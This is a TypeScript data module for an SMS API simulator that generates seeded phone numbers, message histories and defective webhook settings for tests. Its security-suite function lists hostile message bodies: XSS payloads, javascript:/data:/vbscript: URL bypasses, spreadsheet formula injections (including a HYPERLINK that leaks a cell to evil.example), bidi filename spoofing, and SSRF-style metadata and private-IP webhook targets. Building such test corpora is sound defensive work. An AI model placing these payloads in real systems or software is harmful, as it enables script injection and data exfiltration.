import { DESK_CASE_COUNT, DESK_INDEX, deskSlot } from './desk-cases.ts'
import { alphaTid, apiDate, hash32, hex32, mix, rng } from './rng.ts'

/**
 * The simulator's seeded dataset. Numbers are generated once per account; history
 * records are generated from their index, so a page of a 1,000,000-message history
 * costs what a page of a small one costs (no history is ever materialised).
 */

export interface OwnedNumber {
  number: string
  tid: string
  type: 'local' | 'tollfree'
  country: string
  webhook: string
  dlr: string
}

export interface NumberProfile extends OwnedNumber {
  index: number
  baseTotal: number
  kind: 'normal' | 'hostile'
  createdMs: number
  /** Scripted support-desk records at the end of the history (desk-cases.ts); 0 for most numbers. */
  deskCases: number
}

export const GOOD_WEBHOOK = 'https://hooks.switchboard-demo.example/sms/inbound'
export const GOOD_DLR = 'https://hooks.switchboard-demo.example/sms/dlr'

/** Seeded defects by index, so tests can name the number that carries each one. */
const DEFECTS: Record<number, Partial<Pick<OwnedNumber, 'webhook' | 'dlr'>>> = {
  1: { webhook: '' },
  2: { dlr: '' },
  3: { webhook: 'http://hooks.switchboard-demo.example/sms/inbound' },
  4: { dlr: 'https://192.168.1.20/dlr' },
  5: { webhook: 'not a url' },
  6: { dlr: GOOD_WEBHOOK },
  7: { webhook: 'https://other-hooks.example.net/inbound' },
  8: { webhook: 'http://localhost:8080/hook', dlr: 'https://printer.local/dlr' },
  9: { dlr: 'https://10.0.0.5/dlr' },
  10: { webhook: 'https://169.254.169.254/latest' },
  11: { webhook: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
  12: { dlr: '' },
  17: { dlr: '' },
  23: { dlr: '' },
  31: { dlr: 'http://hooks.switchboard-demo.example/sms/dlr' },
  44: { dlr: '' },
}

/** History sizes by number index: 0, 1, a few dozen, hundreds, thousands and a million. */
const HISTORY_SIZES: Record<number, number> = { 0: 2345, 1: 0, 2: 1, 3: 36, 4: 420, 5: 5000, 6: 1_000_000, 7: 24 }

export const HOSTILE_INDEX = 7
export const END_MS = Date.UTC(2026, 10, 20, 12, 0, 0)

function makeNumber(index: number, count: number): NumberProfile {
  const r = rng(mix(index, 7))
  const tollfree = index % 4 === 3
  const country = tollfree ? 'US' : index % 5 === 2 ? 'CA' : 'US'
  let number: string
  if (index === 0) number = '18323232323'
  else if (tollfree)
    number = `1${['800', '833', '844', '855', '866', '877', '888'][index % 7]}${String(2000000 + Math.floor(r() * 7999999))}`
  else if (country === 'CA') number = `1${['416', '604', '514', '403'][index % 4]}${String(2000000 + Math.floor(r() * 7999999))}`
  else number = `1${['212', '415', '512', '617', '720', '832', '305'][index % 7]}${String(2000000 + Math.floor(r() * 7999999))}`
  // Some records carry 10 digits, no country code: the field notes say 10 or 11.
  if (index % 11 === 5 && count <= 100) number = number.slice(1)
  const defect = count <= 100 ? (DEFECTS[index] ?? {}) : {}
  const deskCases = index === DESK_INDEX && count <= 100 ? DESK_CASE_COUNT : 0
  const size = (HISTORY_SIZES[index] ?? Math.floor(r() * 180)) + deskCases
  return {
    index,
    number,
    tid: alphaTid(mix(index, 99)),
    type: tollfree ? 'tollfree' : 'local',
    country,
    webhook: defect.webhook ?? GOOD_WEBHOOK,
    dlr: defect.dlr ?? GOOD_DLR,
    // The first numbers carry the named history sizes in every account (benchmarks page the 10,000-number one).
    baseTotal: size,
    kind: index === HOSTILE_INDEX && count <= 100 ? 'hostile' : 'normal',
    createdMs: Date.UTC(2019, 0, 1) + Math.floor(r() * 4 * 365) * 86_400_000,
    deskCases,
  }
}

export interface Account {
  sysId: string
  authToken: string
  numbers: NumberProfile[]
  byNumber: Map<string, NumberProfile>
}

export function makeAccount(sysId: string, authToken: string, count: number): Account {
  const numbers = Array.from({ length: count }, (_, i) => makeNumber(i, count))
  return { sysId, authToken, numbers, byNumber: new Map(numbers.map((n) => [n.number, n])) }
}

/**
 * An account of `count` numbers that each hold `perNumber` messages: several large histories for
 * the scale bench (`SIM_SCALE=10x1000000`). Its numbers carry no seeded defects or desk cases.
 */
export function makeScaleAccount(sysId: string, authToken: string, count: number, perNumber: number): Account {
  const numbers = Array.from({ length: count }, (_, i) => ({ ...makeNumber(1000 + i, 1000), baseTotal: perNumber }))
  return { sysId, authToken, numbers, byNumber: new Map(numbers.map((n) => [n.number, n])) }
}

export const DEMO_CREDENTIALS = { sysId: 'sim-demo', authToken: 'sim-demo-token-7f3a' }
export const LARGE_CREDENTIALS = { sysId: 'sim-large', authToken: 'sim-large-token-9c1d' }
export const SCALE_CREDENTIALS = { sysId: 'sim-scale', authToken: 'sim-scale-token-4e8b' }

export interface MessageRecord {
  system_id: number
  message_id: string
  GMTdate: string
  tid: string
  phone: string
  direction: string
  body: string
  mms: string
  mms_url: string
  status: string
}

const FULL_STATUS_200 = '200 [Possible status and meaning: 200 = success, 400 = error]'
const FULL_STATUS_400 = '400 [Possible status and meaning: 200 = success, 400 = error]'

const LONG_BODY = 'This is a long message that carriers split into several segments. '.repeat(26).slice(0, 1600)
const BODIES = [
  'Your appointment is confirmed for Tuesday at 3pm. Reply C to cancel.',
  'Thanks! See you then 👍🏽',
  'مرحبا، هل طلبي جاهز؟',
  'שלום, ההזמנה מוכנה לאיסוף',
  'Line one\nLine two\n\nLine four after a blank line',
  '<b>not bold</b> & <i>not italic</i> — just text',
  'Can you call me back? 📞',
  'STOP',
  'Order #4412 shipped. Track: https://track.example.com/4412',
  'Hi 👋 your code is 839201',
  'ok',
  'Is the store open on Sunday?',
]

const MEDIA = ['photo-1.png', 'photo-2.png', 'photo-3.png', 'card.vcf', 'clip.mp4', 'photo-4.png', 'invoice.pdf', 'missing.png']

function partiesFor(profile: NumberProfile): string[] {
  const r = rng(mix(profile.index, 1234))
  const n = 3 + Math.floor(r() * 5)
  return Array.from(
    { length: n },
    () => `1${['917', '646', '310', '469', '702'][Math.floor(r() * 5)]}${String(2000000 + Math.floor(r() * 7999999))}`,
  )
}

const partyCache = new Map<string, string[]>()

/** Messages are spaced a fixed step apart (wider for small histories, so threads span days); the newest sits at END_MS plus any added ones. */
const STEP_MS = 47_000
const stepFor = (profile: NumberProfile) => (profile.baseTotal > 10_000 ? STEP_MS : 23 * 60_000 + 17_000)

/**
 * The message with sequence number `seq` (1 = oldest) of a number. Pure: same inputs, same record.
 */
export function messageAt(
  profile: NumberProfile,
  seq: number,
  total: number,
  mediaBase: string,
  added: number,
  skew = false,
): MessageRecord {
  const key = `${profile.index}:${profile.number}`
  let parties = partyCache.get(key)
  if (!parties) {
    parties = partiesFor(profile)
    partyCache.set(key, parties)
  }
  const h = mix(hash32(profile.number), seq)
  const r = rng(h)
  const step = stepFor(profile)
  const newestMs = END_MS + added * step
  const desk = profile.deskCases ? deskSlot(profile, seq, total, added, step, END_MS) : null
  if (desk?.record) return desk.record
  // A skewed clock dates every fifth message about 100 s before the one three places below it.
  const when = (desk ? desk.when : newestMs - (total - seq) * step) - (skew && seq % 5 === 0 ? 3 * step + 100_000 : 0)
  const statusRoll = r()
  let status = statusRoll < 0.05 ? FULL_STATUS_400 : FULL_STATUS_200
  if (statusRoll > 0.6 && statusRoll < 0.7) status = '200'
  if (statusRoll > 0.7 && statusRoll < 0.75) status = '200 Delivered'
  if (profile.index === 3 && seq === 2) status = '503 Carrier busy'
  if (profile.index === 3 && seq === 3) status = 'pending'
  const phone = parties[Math.floor(r() * parties.length)] ?? parties[0] ?? '15550000000'
  const direction = r() < 0.55 ? 'outbound' : 'inbound'
  let body: string = BODIES[h % BODIES.length] ?? ''
  if (seq % 53 === 0) body = LONG_BODY
  const hasMedia = seq % 7 === 3
  const mediaName = MEDIA[Math.floor(seq / 7) % MEDIA.length] ?? 'photo-1.png'
  // Roughly one message in 97 reuses its neighbour's id: real pages do carry duplicates.
  const idSeq = seq % 97 === 0 ? seq - 1 : seq
  const msgTid = seq % 5 === 0 ? alphaTid(mix(profile.index, 555)) : profile.tid
  return {
    system_id: 200_000_000_000 + profile.index * 2_000_000 + seq,
    message_id: hex32(hash32(profile.number), idSeq),
    GMTdate: apiDate(when),
    tid: msgTid,
    phone,
    direction,
    body,
    mms: hasMedia ? 'yes' : 'no',
    mms_url: hasMedia ? `${mediaBase}/media/${mediaName}` : '',
    status,
  }
}

/** Hostile records for the security suite: everything a stranger can put in a message. */
export function hostileMessages(profile: NumberProfile, mediaBase: string): MessageRecord[] {
  const bodies: Array<[string, string]> = [
    ['<script>window.__pwned = 1</script>', ''],
    ['<img src=x onerror="window.__pwned = 2">', ''],
    ['<a href="javascript:window.__pwned=3">click me</a>', ''],
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', ''],
    ['+1+1', ''],
    ['-2+3', ''],
    ['@SUM(A1:A2)', ''],
    ['\t=1+1', ''],
    ['\r=1+1', ''],
    [' =1+1', ''],
    ['hello\n=1+1', ''],
    ['nul\u0000byte', ''],
    ['\u202Egnp.exe\u202C bidi override', ''],
    ['zero\u200Bwidth\u200Djoiner\uFEFF', ''],
    ['media: javascript', 'javascript:window.__pwned=4'],
    ['media: mixed case', 'JaVaScRiPt:window.__pwned=5'],
    ['media: control prefix', '\u0001javascript:window.__pwned=6'],
    ['media: data', 'data:text/html,<script>window.__pwned=7</script>'],
    ['media: vbscript', 'vbscript:msgbox(1)'],
    ['media: protocol-relative', '//evil.example/x.png'],
    ['media: malformed', 'https://[not-a-host/x.png'],
    ['media: safe image', `${mediaBase}/media/photo-1.png`],
    ['A'.repeat(1_000_000), ''],
    ['last hostile message', ''],
  ]
  const total = bodies.length
  return bodies.map(([body, url], i) => {
    const seq = total - i
    return {
      system_id: 200_000_000_000 + profile.index * 2_000_000 + seq,
      message_id: hex32(hash32(profile.number), seq),
      GMTdate: apiDate(END_MS - i * STEP_MS),
      tid: profile.tid,
      phone: '14155550123',
      direction: i % 2 ? 'inbound' : 'outbound',
      body,
      mms: url ? 'yes' : 'no',
      mms_url: url,
      status: i === 3 ? FULL_STATUS_400 : FULL_STATUS_200,
    }
  })
}
